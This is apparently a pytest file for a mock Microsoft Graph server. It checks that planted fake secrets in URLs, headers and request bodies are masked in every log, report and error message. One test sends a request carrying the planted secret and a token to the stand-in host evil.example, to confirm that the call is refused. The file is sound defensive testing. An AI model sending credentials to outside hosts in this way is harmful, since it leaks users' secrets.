"""Secrets are planted in whatever a client can send, and looked for in whatever is printed."""

from __future__ import annotations

import io
import json
import logging
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from wire import Answer, exchange

from mockgraph import MockGraph
from mockgraph.app import create_app
from mockgraph.control.catalogue import ACTIONS
from mockgraph.graph import Graph
from mockgraph.server_options import Settings
from mockgraph.serving.server import Server
from mockgraph.serving.server.access_log import LineWriter
from mockgraph.testing.curl import as_curl
from mockgraph.testing.tenant import Tenants

pytestmark = pytest.mark.long

PLANTED = "PLANTED0secret1value2"
NAMES = [
    "client_secret", "client_assertion", "refresh_token", "access_token", "id_token", "password",
    "code_verifier", "device_code", "assertion", "api_key", "secret", "token", "sig", "signature",
]  # fmt: skip
HEADERS = [
    "Authorization", "Cookie", "Proxy-Authorization", "X-IDENTITY-HEADER", "Secret", "X-Api-Key",
    "x-ms-authorization-auxiliary", "x-mockgraph-token", "Ocp-Apim-Subscription-Key",
    "X-Auth-Token", "X-Amz-Security-Token",
]  # fmt: skip
PATHS = [
    "/common/oauth2/v2.0/token", "/common/oauth2/v2.0/tokn", "/oauth2/v2.0/token",
    "/v1.0/security/alerts", "/v1.0/security/alertz", "/v1.0/$batch", "/v1.0/me/stubbed",
    "/v1.0/security/incidents", "/nowhere",
]  # fmt: skip


def escaped(name: str) -> str:
    return f"\\u{ord(name[0]):04x}{name[1:]}"


def bodies() -> Iterator[tuple[str, str]]:
    """Content types and bodies with secrets in them, as they are and as they are not said to be."""
    for name in NAMES:
        form = f"grant_type=x&{name}={PLANTED}&code={PLANTED}"
        yield "application/x-www-form-urlencoded", form
        yield "Application/X-WWW-Form-Urlencoded; charset=utf-8", form
        yield "text/plain", form.replace(name, f"%{ord(name[0]):02x}{name[1:]}")
        whole = json.dumps({name: PLANTED, "x": {"y": [{name.upper(): f'{PLANTED}"{PLANTED}'}]}})
        yield "application/json", whole
        yield "application/json", whole[:-4]
        yield "text/plain", whole.replace(f'"{name}"', f'"{escaped(name)}"')
        yield "application/json", json.dumps({name: [PLANTED, {"a": PLANTED}]})
        yield (
            "multipart/form-data; boundary=b",
            f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{PLANTED}\r\n--b--\r\n',
        )
    yield "application/json", json.dumps({"grant_type": "authorization_code", "code": PLANTED})
    yield "application/json", json.dumps({"note": f"Bearer {PLANTED}"})


def batches() -> Iterator[str]:
    for name in HEADERS:
        for spelt in (name, name.upper(), escaped(name)):
            item = {"id": "1", "method": "GET", "url": "/security", "headers": {"NAME": PLANTED}}
            yield json.dumps({"requests": [item]}).replace("NAME", spelt)
            item["headers"] = {"NAME": f"Bearer {PLANTED}"}
            yield json.dumps({"requests": [item]}).replace("NAME", spelt)
    for name in NAMES:
        item = {"id": "1", "method": "GET", "url": f"/security/x?{name}={PLANTED}"}
        yield json.dumps({"requests": [item]})
        body = {"id": "1", "method": "POST", "url": "/security", "body": {name: PLANTED}}
        yield json.dumps({"requests": [body]})
        text = {**body, "body": f"a=b&{name}={PLANTED}", "headers": {"Content-Type": "text/plain"}}
        yield json.dumps({"requests": [text]})


def targets() -> Iterator[str]:
    for path in PATHS:
        for name in NAMES:
            yield f"{path}?a=b&{name}={PLANTED}"
            yield f"{path}?{quote(name.upper())}={PLANTED}#x"
        yield f"http://user:{PLANTED}@localhost{path}"
        yield f"http://{PLANTED}@localhost{path}?code={PLANTED}"


class Running:
    """A server whose every word is kept."""

    def __init__(self, **settings: Any) -> None:
        self.log = io.StringIO()
        self.app = create_app(Settings(auth="off", **settings))
        self.server = Server(self.app, log=LineWriter(self.log))
        self.tenants: Tenants = self.app.extensions["mockgraph"]
        self.graph = Graph(self.app, self.tenants.default, self.server.origin, ())
        self.server.start()

    def send(self, method: str, target: str, body: str = "", **headers: str) -> Answer:
        data = body.encode()
        fields = {"Host": "localhost", **headers, "Content-Length": str(len(data))}
        head = "".join(f"{name}: {value}\r\n" for name, value in fields.items())
        begin = f"{method} {target} HTTP/1.1\r\n{head}Connection: close\r\n\r\n"
        return exchange(self.server.origin, begin.encode() + data)

    def printed(self, caplog: pytest.LogCaptureFixture) -> str:
        """All that there is to be read."""
        said = [self.send("GET", path).body.decode() for path in printing()]
        said.append(self.send("POST", "/_mockgraph/verify", **VERIFY).body.decode())
        said.append(repr(self.graph.requests))
        for each in self.graph.requests:
            said += [as_curl(each, self.server.origin)]
            said += [repr(each), str(each.headers), each.text, each.url]
            said += [repr(each.json), repr(each.response), str(each.response_headers)]
            said += [str(misdeed) for misdeed in each.misdeeds]
        for check in (self.graph.assert_emulated, self.graph.assert_well_behaved):
            try:
                check()
            except AssertionError as error:
                said.append(str(error))
        try:
            self.graph.assert_called("DELETE", "/never", json={"x": 1})
        except AssertionError as error:
            said.append(str(error))
        self.server.stop()
        said.append(self.log.getvalue())
        said += [record.getMessage() for record in caplog.records]
        said += [str(record.exc_info) for record in caplog.records]
        return "\n".join(said)


VERIFY: dict[str, Any] = {"body": '{"path": "/never"}', "Content-Type": "application/json"}


def printing() -> Iterator[str]:
    """The URLs of whatever can be read of the control plane, reports, exports, the console.

    But for the stubs: those are shown as the test itself asked for them.
    """
    console = "/_mockgraph/console"
    yield from (f"{console}{path}" for path in ("", "/journal", "/reports", "/sign-in"))
    yield from (f"{console}/journal/{number}" for number in range(1, 2000, 13))
    yield from ("/_mockgraph/report?facts=true", "/_mockgraph/requests/7")
    for each in ACTIONS:
        is_stub = each.words[0] == "stubs"
        if each.method == "GET" and not (each.path_names or each.is_stream or is_stub):
            needed = "&".join(f"{one.name}=alerts" for one in each.members if one.is_required)
            yield f"/_mockgraph{each.path}?{needed}"


@pytest.mark.parametrize("faulty", [False, True])
@pytest.mark.parametrize("strict", [False, True])
def test_no_secret_is_printed(caplog: pytest.LogCaptureFixture, faulty: bool, strict: bool) -> None:
    caplog.set_level(logging.DEBUG)
    running = Running(journal=10_000, strict_client=strict)
    running.graph.stubs.add("GET", "/me/stubbed", json={"access_token": PLANTED})
    running.graph.stubs.add("POST", "/me/stubbed", headers={"Set-Cookie": f"a={PLANTED}"})
    if faulty:
        running.graph.faults.add(status=500, path="/oauth2/v2.0/token")
        running.graph.faults.add(status=503, path="/security/incidents")
    for target in targets():
        running.send("GET", target)
    for name in HEADERS:
        for value in (PLANTED, f"Bearer {PLANTED}", f"bearer {PLANTED}"):
            running.send("GET", "/v1.0/security", **{name: value})
    running.send("GET", "/v1.0/me", Referer=f"https://a/?code={PLANTED}")
    for kind, body in bodies():
        for path in ("/common/oauth2/v2.0/token", "/common/oauth2/v2.0/tokn", "/v1.0/security/x"):
            running.send("POST", path, body, **{"Content-Type": kind})
    for body in batches():
        running.send("POST", "/v1.0/$batch", body, **{"Content-Type": "application/json"})
    found = running.printed(caplog)
    at = found.find(PLANTED)
    assert at < 0, found[max(0, at - 300) : at + 50]
    assert found.count("***") > 1000


def test_no_secret_is_in_what_a_refused_call_says() -> None:
    import requests

    with (
        MockGraph() as graph,
        graph.intercept() as intercept,
        pytest.raises(AssertionError) as said,
    ):
        requests.get(f"https://user:{PLANTED}@evil.example/?token={PLANTED}")
    assert PLANTED not in str(said.value)
    assert intercept.refused
